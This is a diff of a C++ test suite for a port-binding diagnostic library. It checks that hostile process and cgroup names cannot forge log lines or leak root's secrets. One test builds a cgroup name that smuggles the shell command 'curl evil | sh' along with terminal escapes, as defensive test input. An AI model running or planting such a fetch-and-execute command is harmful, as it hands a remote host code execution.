@@ -20,7 +20,6 @@ using Catch::Matchers::StartsWith;
 
 namespace {
 
-std::string hostile_names() { return PORTSHIM_TEST_HOSTILE_NAMES; }
 
 // What a squatter writes into his names (a file name too: no '/'): a line break and a
 // forged report line with a command to paste, a GitHub workflow command, terminal
@@ -87,7 +86,7 @@ public:
     {
         REQUIRE(::chmod(dir_.path().c_str(), 0755) == 0);
         exe_ = dir_ / ("srv" + forged);
-        std::filesystem::copy_file(hostile_names(), exe_);
+        std::filesystem::copy_file(prog("hostile_names"), exe_);
         REQUIRE(::chmod(exe_.c_str(), 0755) == 0);
         Launch launch;
         launch.as_nobody = ::geteuid() == 0 && readable_by_nobody({exe_});
@@ -114,7 +113,7 @@ std::unique_ptr<Process> fail_on(int port, const std::string& format)
     Launch launch = preloaded();
     launch.env.emplace_back("PORTSHIM_FORMAT", format);
     auto daemon = std::make_unique<Process>(
-        std::vector<std::string>{legacy_server(), "-p", std::to_string(port)}, launch);
+        std::vector<std::string>{prog("legacy_server"), "-p", std::to_string(port)}, launch);
     require_failed_as_without_shim(*daemon);
     return daemon;
 }
@@ -191,7 +190,7 @@ TEST_CASE("forgery: a squatter's names cannot add a syslog datagram or a line to
     const Squatter squatter;
     Launch launch = preloaded();
     launch.env = {{"PORTSHIM_LOG", "syslog"}, {"PORTSHIM_FORMAT", "text"}};
-    const Caught caught = catch_syslog({legacy_server(), "-p", std::to_string(squatter.port())}, launch);
+    const Caught caught = catch_syslog({prog("legacy_server"), "-p", std::to_string(squatter.port())}, launch);
     INFO("stdout: " << caught.out << "\nstderr: " << caught.err);
     CHECK(caught.status == 1);
     CHECK(caught.out == "errno=98\n");
@@ -226,7 +225,7 @@ TEST_CASE("forgery: a JSON report over syslog with a huge command line is shorte
     const Squatter squatter(args);
     Launch launch = preloaded();
     launch.env = {{"PORTSHIM_LOG", "syslog"}};
-    const Caught caught = catch_syslog({legacy_server(), "-p", std::to_string(squatter.port())}, launch);
+    const Caught caught = catch_syslog({prog("legacy_server"), "-p", std::to_string(squatter.port())}, launch);
     INFO("stdout: " << caught.out << "\nstderr: " << caught.err);
     CHECK(caught.status == 1);
     CHECK(caught.out == "errno=98\n");
@@ -253,7 +252,7 @@ TEST_CASE("forgery: a JSON report over syslog with a huge command line is shorte
 TEST_CASE("forgery: a system() command with a line break and escapes stays inside the exec-leak line")
 {
     const std::string command = "true '" + forged + "' && echo done";
-    const std::vector<std::string> argv{hostile_names(), "system", command};
+    const std::vector<std::string> argv{prog("hostile_names"), "system", command};
     Process without(argv, Launch{});
     REQUIRE(without.wait() == 0);
     for (const std::string format : {"text", "github"}) {
@@ -283,7 +282,7 @@ TEST_CASE("forgery: a system() command with a line break and escapes stays insid
 TEST_CASE("forgery: a cgroup named like a shell command stays one argument of the confirm command")
 {
     require_root("the holder runs as root in a cgroup of the test's and the failing copy as nobody");
-    if (!readable_by_nobody({require_library(), legacy_server()}))
+    if (!readable_by_nobody({require_library(), prog("legacy_server")}))
         skip("the library or legacy_server is not readable by nobody");
     // cgroup_mkdir() refuses a line break in a name (it would break /proc/PID/cgroup), not the rest.
     const std::string name = "portshim-test-" + std::to_string(::getpid()) + " a; curl evil | sh\x1b[2J.scope";
@@ -292,13 +291,13 @@ TEST_CASE("forgery: a cgroup named like a shell command stays one argument of th
         skip("no cgroup v2 hierarchy to make a cgroup in");
     // Sockets belong to the cgroup of the process that creates them: move in first.
     Process holder({"/bin/sh", "-c", "echo $$ > \"$0\" && exec \"$@\"", cgroup.path() + "/cgroup.procs",
-                    legacy_server()},
+                    prog("legacy_server")},
                    Launch{});
     const int port = read_port(holder);
 
     Launch as_nobody = preloaded();
     as_nobody.as_nobody = true;
-    Process daemon({legacy_server(), "-p", std::to_string(port)}, as_nobody);
+    Process daemon({prog("legacy_server"), "-p", std::to_string(port)}, as_nobody);
     require_failed_as_without_shim(daemon);
     const Json event = only_bind_failed_event(daemon);
     CHECK(event["cause"].str() == "hidden-owner");
@@ -314,7 +313,7 @@ TEST_CASE("forgery: a cgroup named like a shell command stays one argument of th
     // In text the same command is shown with the line break and the escape visible.
     Launch text = as_nobody;
     text.env.emplace_back("PORTSHIM_FORMAT", "text");
-    Process shown({legacy_server(), "-p", std::to_string(port)}, text);
+    Process shown({prog("legacy_server"), "-p", std::to_string(port)}, text);
     require_failed_as_without_shim(shown);
     check_text_lines(shown.err());
     CHECK_THAT(shown.err(), Contains("systemctl status -- 'portshim-test-" + std::to_string(::getpid()) +
@@ -333,7 +332,7 @@ std::unique_ptr<Process> run_setuid(const SetuidTree& tree, const std::string& l
                                     bool& hidepid)
 {
     for (const bool with_hidepid : {true, false}) {
-        std::vector<std::string> argv{PORTSHIM_TEST_SECURE_EXEC};
+        std::vector<std::string> argv{prog("secure_exec")};
         if (with_hidepid)
             argv.push_back("-p");
         argv.insert(argv.end(), {tree.staging(), library});
@@ -354,9 +353,9 @@ TEST_CASE("forgery: under secure execution a root process's secret command line 
 {
     require_root("a setuid-root program run as nobody, and a root holder");
     const SetuidTree tree;
-    const std::string server = tree.setuid_copy(legacy_server(), "setuid_server");
+    const std::string server = tree.setuid_copy(prog("legacy_server"), "setuid_server");
     const std::string secret = "--password=s3cr3t-of-root";
-    Process holder({legacy_server(), "--", secret}, Launch{});
+    Process holder({prog("legacy_server"), "--", secret}, Launch{});
     const std::string port = std::to_string(read_port(holder));
 
     for (const std::string format : {"json", "text"}) {
@@ -375,7 +374,7 @@ TEST_CASE("forgery: under secure execution a root process's secret command line 
         CHECK_THAT(err, Contains(own_line));
         // Nothing of root's process: not its arguments, program, pid or descriptor.
         CHECK_THAT(err, !Contains("s3cr3t"));
-        CHECK_THAT(err, !Contains(legacy_server()));
+        CHECK_THAT(err, !Contains(prog("legacy_server")));
         CHECK_THAT(err, !Contains("pid " + std::to_string(holder.pid())));
         CHECK_THAT(err, Contains("secure execution"));
         CHECK_THAT(err, Contains("sudo ss -tlnp 'sport = :" + port + "'"));
@@ -389,7 +388,7 @@ TEST_CASE("forgery: under secure execution a root process's secret command line 
     }
 
     // The command line a setuid program runs through system() is not the user's to read either.
-    const std::string helper = tree.setuid_copy(hostile_names(), "setuid_helper");
+    const std::string helper = tree.setuid_copy(prog("hostile_names"), "setuid_helper");
     Launch launch;
     // exec-leak is not about a failure of this process: it reaches a pipe only when asked (rule 13).
     launch.env = {{"PORTSHIM_FORMAT", "text"}, {"PORTSHIM_LOG", "stderr"}};
